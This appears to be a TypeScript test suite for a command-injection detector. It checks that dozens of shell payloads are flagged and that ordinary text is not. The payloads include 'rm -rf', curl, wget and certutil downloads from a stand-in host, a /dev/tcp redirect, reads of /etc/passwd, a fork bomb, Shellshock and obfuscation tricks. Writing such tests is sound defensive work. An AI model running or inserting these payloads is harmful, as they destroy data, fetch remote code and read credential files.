import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { commandInjection } from '../../../src/inspection/shell/command-injection.ts'
import { optionInjection } from '../../../src/inspection/shell/option-injection.ts'
import { plainForm } from '../../../src/inspection/shell/plain-form.ts'

const INJECTED: readonly (readonly [reason: string, value: string])[] = [
  ['separator', 'report.pdf; rm -rf /srv'],
  ['separator', 'host;id'],
  ['separator', '8.8.8.8 && curl http://198.51.100.7/x'],
  ['separator', '8.8.8.8 || wget 198.51.100.7'],
  ['separator', 'x | base64'],
  ['separator', 'a;$x ls -la'],
  ['ampersand', 'a & ping -n 10 127.0.0.1'],
  ['ampersand', 'file.txt&whoami'],
  ['line', 'example.com\ncurl http://198.51.100.7/x'],
  ['line', 'name\n/bin/cat /etc/hosts'],
  ['backtick', 'a`whoami`'],
  ['backtick', '`curl http://198.51.100.7`'],
  ['substitution', 'a$(whoami).example.com'],
  ['substitution', '$(cat /etc/passwd)'],
  ['program', 'cat /etc/passwd'],
  ['program', "'; /usr/bin/id"],
  ['program', '{"q": "wget -q http://198.51.100.7/x"}'],
  ['shell-reads-pipe', 'echo aWQ= | rev | sh'],
  ['shell-reads-pipe', 'echo id|$0'],
  ['program-of-folder', 'x;./run.sh'],
  ['separator', 'x && netsh interface set something down'],
  ['separator', 'x && echo vulnerable'],
  ['ampersand', 'x&cscript run.vbs'],
  ['windows-program', 'x&net localgroup'],
  ['windows-program', 'x|sc query'],
  ['batch-variable', 'ping%PROGRAMFILES:~10,-5%x'],
  ['arithmetic', 'x$((7*7))'],
  ['command-call', 'os:cmd("id")'],
  ['command-call', '"id".execute()'],
  ['network-device', '0<&5;exec 5<>/dev/tcp/198.51.100.7/80'],
  ['internal-separator', 'a;cat${IFS}/etc/passwd'],
  ['function-definition', '() { :; }; echo vulnerable'],
  ['fork-bomb', 'x(){ x|x& };x'],
  ['here-string', 'cat<<<hello'],
  ['redirection', 'x > /tmp/out'],
  ['command-call', "system('id')"],
  ['command-call', 'os.system("id")'],
  ['wildcard-path', '/???/c?t'],
  ['wildcard-path', '/etc/p[a]sswd'],
  ['disguised-program', "w'h'oami"],
  ['disguised-program', 'c{ur,u}l'.replace('c{ur,u}l', 'wh``oami')],
  ['wrapped-program', 'nohup whoami'],
  ['batch-loop', 'for /f "tokens=*" %i in (\'dir /b\') do echo %i'],
  ['batch-condition', 'if exist c:\\users\\x echo y'],
  ['batch-shell', 'x & cmd.exe /c dir'],
  ['powershell', 'powershell -enc SQBFAFgA'],
  ['powershell', 'IEX(New-Object Net.WebClient).DownloadString("http://198.51.100.7")'],
  ['windows-program', 'certutil -urlcache -f http://198.51.100.7/x'],
]
for (const [reason, value] of INJECTED) {
  test(`${JSON.stringify(value)} carries a command`, () => {
    const [seen] = commandInjection(value)
    assert.equal(seen?.weight, 'strong')
    assert.equal(seen?.family, 'command')
    if (!['program', 'separator'].includes(reason)) assert.equal(seen?.reason, `command.${reason}`)
  })
}

const HONEST = [
  'a hero; more than that, she became aware',
  'time is of the essence',
  'find the best hotel & spa in Rome',
  'Tom & Jerry; cat and mouse',
  'Use `git status` to see what changed',
  'Start with Kubernetes (`kubectl` is required)',
  'curl and divergence',
  'bash away in the gym',
  'https://example.com/search?q=cats&id=5&sort=date&time=now',
  'AT&T | Verizon | T-Mobile',
  '4|28|c|1||TC',
  'red;$5 each',
  'import from ./a; ./b.txt; ./c.txt',
  'the net result; the net share price',
  'B&B, net 30 days',
  'salt && pepper',
  '50%:~5 minutes',
  "assert('x' in y)",
  'S&P 500',
  "I'd like that's what O'Brien's said",
  'price > 100 and size < 20',
  '${username}, welcome to ${city}',
  'Go to store.\nAt the store, shop.',
  'C:\\Program Files\\Notes\\cat.txt',
  'if x is greater than 5 then return the list',
  'for all items in the list do the same',
  'PowerShell may have substituted it',
  '(555) 123-4567; ext. 12',
  '/[a-z]{1,5}/',
  'src/**/*.ts',
  '$var1.price$',
  '2 * (3 + 4)',
  'make -- the list',
  'set {a, b, c}',
  'name\nid\ndate',
]
for (const value of HONEST) {
  test(`${JSON.stringify(value)} is no command`, () => assert.deepEqual(commandInjection(value), []))
}

test('quotes, escapes and empty expansions inside of words are undone', () => {
  const forms = [
    ["w'h'oami", 'whoami'],
    ['w"h"oami', 'whoami'],
    ['c\\at', 'cat'],
    ['cu$@rl', 'curl'],
    ['ca$()t', 'cat'],
    ['cat$IFS$9x', 'cat x'],
    ['cat${IFS}x', 'cat x'],
    ['{cat,/etc/x}', 'cat /etc/x'],
    ['c{a,oun}t', 'cat count'],
    ['pow^ershell', 'powershell'],
    ['plain', 'plain'],
  ] as const
  for (const [value, plain] of forms) assert.equal(plainForm(value).trim(), plain)
})

test('an option is one only for what a name should be', () => {
  for (const value of ['-oProxyCommand=id', '--upload-pack=id', ' -rf', '-x', '/c', '/format:x', '-@x']) {
    assert.equal(optionInjection(value)[0]?.reason, 'command.option', value)
  }
  for (const value of ['', '-', '-5', '-0.5', '--', '-- x', 'a-b', '/path/to/x', 'x --y']) {
    assert.deepEqual(optionInjection(value), [], value)
  }
})

test('nothing throws, and words alone are always silent', () => {
  const piece = fc.constantFrom(
    ';',
    '|',
    '&',
    '`',
    '$(',
    ')',
    '"',
    "'",
    'cat',
    ' ',
    '/etc',
    '{',
    ',',
    '}',
    '\\',
    '\n',
    'for ',
    '%i',
    'if ',
    '*',
    '?',
    '[',
    ']',
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (parts) => void commandInjection(parts.join(''))),
    { numRuns: 2000 },
  )
  fc.assert(fc.property(fc.string({ unit: 'binary' }), (value) => void commandInjection(value)))
  const word = fc.array(fc.constantFrom('flight', 'to', 'Rome', '12', 'May', 'the', 'list'), { minLength: 1 })
  fc.assert(fc.property(word, (words) => assert.deepEqual(commandInjection(words.join(' ')), [])))
})
